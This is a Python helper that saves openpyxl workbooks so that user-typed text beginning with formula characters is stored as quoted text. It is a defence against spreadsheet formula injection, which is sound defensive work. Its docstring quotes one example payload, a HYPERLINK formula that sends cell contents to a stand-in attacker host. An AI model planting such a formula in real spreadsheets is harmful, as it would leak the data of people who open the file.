"""The one way the app saves an .xlsx workbook: user text never becomes a formula.

Measure texts, department names and plan titles are typed or imported by users
and opened by other people in Excel or WPS. openpyxl stores a string that
starts with "=" as a live formula, so `=HYPERLINK("http://evil.test/?x="&A1,"click")`
in a measure would run in every department's 分工表; Excel also turns a text
cell starting with + - @ (or a tab / carriage return) into a formula when it is
edited. Such cells are written as text with Excel's quote prefix, which keeps
them text on edit too.
"""

import io

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def workbook_bytes(book: Workbook) -> bytes:
    """The workbook as .xlsx bytes, every formula-like text cell stored as text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    cell.data_type = "s"
                    cell.quotePrefix = True
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
